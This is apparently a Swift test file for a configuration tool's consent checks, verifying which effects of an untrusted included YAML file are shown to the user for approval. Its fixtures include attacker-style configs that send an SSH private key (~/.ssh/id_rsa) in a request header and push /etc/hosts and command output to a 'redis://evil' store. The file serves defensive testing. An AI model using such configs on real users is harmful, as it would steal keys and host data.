import Boards
import Testing

/// Boards of which some files are the user's own and some are not.
@Suite(.timeLimit(.minutes(5)))
struct MixedConsentTests {

    /// The consent items if those files are foreign.
    private func texts(_ files: [String: String], foreign: String...) throws -> [String] {
        let (read, problems) = readBoard(files, environment: ["KEY": "value", "HOME": "/home/me"])
        #expect(problems.isEmpty, "\(problems)")
        var board = try #require(read)
        #expect(foreign.allSatisfy(board.files.contains))
        board.foreignFiles = Set(foreign)
        return board.consent.items.map(\.text)
    }

    @Test("In an own board with a foreign file, only the effects of that file need consent")
    func included() throws {
        let files = [
            "board.yaml": """
            include: more.yaml
            sources: { a: { command: mine }, b: { http: "http://localhost/" } }
            keys: { x: { run: mine } }
            """,
            "more.yaml": """
            sources: { c: { command: theirs }, d: { http: "http://nas/" }, e: { file: /x, alert: { failed: 1, run: say } } }
            keys: { y: { run: theirs } }
            secrets: { s: { command: pass } }
            """,
        ]
        #expect(
            try texts(files, foreign: "more.yaml") == [
                "source: theirs", "key y: theirs", "alert (gets file /x): say", "secret s: pass",
                "GET http://nas/ (a private network)", "s from its command, not used",
            ])
    }

    @Test(
        "Values of the user's variables in a request or a filter of a foreign file need consent",
        arguments: [
            (
                "keys: { x: { title: t, http: 'https://e.example/?${var.a}' } }",
                "${var.a} (one of one, two) → https://e.example, in the URL"
            ),
            (
                "sources: { d: { http: 'https://e.example/?${var.a}' } }",
                "${var.a} (one of one, two) → https://e.example, in the URL"
            ),
            (
                "sources: { d: { http: 'https://e.example/', select: '$var.a' }, e: { http: 'https://e.example/?${source.d}' } }",
                "${var.a} (one of one, two) (by d) → https://e.example, in the URL"
            ),
        ])
    func variables(theirs: String, line: String) throws {
        let files = [
            "board.yaml": "include: more.yaml\nvariables: { a: [one, two] }\nsources: { own: { file: /x } }",
            "more.yaml": theirs,
        ]
        #expect(try texts(files, foreign: "more.yaml").contains(line))
        let shared = files.mapValues { $0.replacing("variables:", with: "defaults: { share: false }\nvariables:") }
        #expect(try texts(shared, foreign: "more.yaml").contains(line))
        let mine = "variables: { a: [one, two] }\nsources: { own: { file: /x } }"
        let included = ["board.yaml": "include: mine.yaml\n\(theirs)", "mine.yaml": mine]
        #expect(try texts(included, foreign: "board.yaml").contains(line))
    }

    @Test("A foreign source that uses an own or shipped recipe needs consent, and is shown with the recipe's lines")
    func recipe() throws {
        let files = [
            "board.yaml": "include: more.yaml\nsources: { a: { use: r, with: { word: x } } }",
            "more.yaml": "sources: { b: { use: r, with: { word: y } } }",
            "recipes/r.yaml": "parameters: { word: {} }\nsource: { command: [run, \"${parameter.word}\"] }",
        ]
        #expect(try texts(files, foreign: "more.yaml") == ["source (no shell): run y"])
        #expect(try texts(files, foreign: "recipes/r.yaml").count == 2)
    }

    @Test("A secret needs consent where a foreign file defines it or uses it")
    func secrets() throws {
        let files = [
            "board.yaml": """
            include: more.yaml
            secrets: { own: { env: KEY } }
            sources: { a: { http: "https://a.example/", headers: { X: "${secret.theirs}", Y: "${secret.own}" } } }
            """,
            "more.yaml": """
            secrets: { theirs: { file: ~/.ssh/id_rsa } }
            sources: { b: { http: "https://b.example/?${secret.own}" } }
            """,
        ]
        #expect(
            try texts(files, foreign: "more.yaml") == [
                "theirs from file ~/.ssh/id_rsa → https://a.example, header X",
                "own from variable KEY → https://b.example, in the URL",
            ])
    }

    @Test(
        "A foreign store needs consent for everything it receives, an own store for what the foreign file sends")
    func store() throws {
        let own = "sources: { a: { file: /etc/hosts, share: true }, b: { command: who, share: true } }"
        let place = "redis://evil:6379 (not encrypted)"
        #expect(
            try texts(
                [
                    "board.yaml": "include: more.yaml\n\(own)",
                    "more.yaml": "share: redis://evil\nsources: { x: { file: /x } }",
                ],
                foreign: "more.yaml") == [
                    "\(place): responses of public servers, under the names of you and this machine",
                    "\(place): file /etc/hosts",
                    "\(place): output of: who",
                ])
        #expect(
            try texts(
                [
                    "board.yaml": "include: more.yaml\nshare: redis://evil\n\(own)",
                    "more.yaml": "sources: { x: { file: /x, share: true } }",
                ], foreign: "more.yaml") == ["\(place): file /x"])
    }

    @Test("Defaults of a foreign file that apply to an own file are part of the affected sources")
    func defaults() throws {
        let files = [
            "board.yaml": "include: theirs.yaml\nshare: redis://evil\nsources: { x: { file: /x } }",
            "theirs.yaml": "include: own.yaml\ndefaults: { share: as team }",
            "own.yaml": """
            secrets: { s: { env: KEY } }
            sources: { a: { http: "https://a.example/", headers: { X: "${secret.s}" } } }
            """,
        ]
        #expect(
            try texts(files, foreign: "theirs.yaml").contains(
                "redis://evil:6379 (not encrypted): as team, response of https://a.example/"))
    }

    @Test("Own files included by a foreign board need consent, since the foreign author decides on their use")
    func includedOwn() throws {
        let files = [
            "board.yaml": "include: own.yaml\nsources: { x: { file: /x } }",
            "own.yaml": """
            secrets: { s: { command: ./secret.sh }, t: { file: t.txt } }
            sources:
              a: { command: ./status.sh }
              b: { command: [uptime], folder: / }
              c: { http: "http://localhost/", unix: x.sock }
              d: { http: "http://localhost/", unix: /x.sock }
              e: { http: "https://a.example/", headers: { X: "${secret.s}", Y: "${secret.t}" } }
            keys: { x: { run: ./go.sh } }
            """,
        ]
        #expect(
            try texts(files, foreign: "board.yaml") == [
                "source: ./status.sh", "source (no shell) in /: uptime", "key x: ./go.sh", "secret s: ./secret.sh",
                "GET to ./x.sock: / (http://localhost)", "GET to /x.sock: / (http://localhost)",
                "s from its command → https://a.example, header X",
                "t from file ./t.txt → https://a.example, header Y",
            ])
        #expect(try texts(files, foreign: "own.yaml").count == 8)
    }

    @Test("A foreign file between own files is responsible for all its includes, and nothing else")
    func between() throws {
        let files = [
            "board.yaml": "include: [theirs.yaml, other.yaml]\nsources: { a: { command: a } }",
            "theirs.yaml": "include: own.yaml\nkeys: { x: { run: x } }",
            "own.yaml": "include: last.yaml\nsources: { b: { command: b } }",
            "last.yaml": "sources: { c: { command: [c], folder: / } }\nkeys: { y: { run: y } }",
            "other.yaml": "sources: { d: { command: d } }",
        ]
        #expect(
            try texts(files, foreign: "theirs.yaml") == [
                "source: b", "source (no shell) in /: c", "key x: x", "key y: y",
            ])
        #expect(try texts(files, foreign: "last.yaml") == ["source (no shell) in /: c", "key y: y"])
    }

    @Test("A variable in a recipe's filter needs consent where a foreign file uses the recipe")
    func shownVariables() throws {
        let files = [
            "board.yaml": "include: more.yaml\nsources: { a: { file: /a, select: '$env.HOME' } }",
            "more.yaml": "sources: { b: { use: r, with: { word: '${env.KEY}' } } }",
            "recipes/r.yaml": "parameters: { word: {} }\nsource: { file: /x, select: '$parameter.word' }",
        ]
        #expect(
            try texts(files, foreign: "more.yaml") == ["variable KEY → titles, names and filters of the board"])
    }

    @Test("A duplicate name is an error, so that no file can replace a part of another one")
    func names() {
        for text in ["secrets: { s: { env: A } }", "sources: { a: { command: theirs } }"] {
            let files = [
                "board.yaml": "include: more.yaml\nsecrets: { s: { env: KEY } }\nsources: { a: { command: mine } }",
                "more.yaml": text,
            ]
            #expect(!readBoard(files).problems.isEmpty)
        }
    }
}
